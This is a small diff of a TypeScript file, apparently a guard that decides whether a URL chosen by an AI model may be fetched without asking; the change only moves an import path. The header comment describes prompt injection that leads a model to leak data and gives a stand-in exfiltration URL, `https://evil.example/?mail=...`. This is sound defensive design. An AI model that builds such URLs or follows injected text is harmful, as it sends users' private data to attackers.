@@ -1,7 +1,7 @@
 // Whether an address that a model chose may be reached without asking. An address can carry words out:
 // `https://evil.example/?mail=...`. A model that has seen something of the person and text of others may do what that
 // text says, so the address must then be one that nothing can have been added to.
-import { parseGivenUrl } from '../net/given-url.ts';
+import { parseGivenUrl } from './given-url.ts';
 
 /** What a model has seen before it asks for an address. */
 export interface SeenBefore {
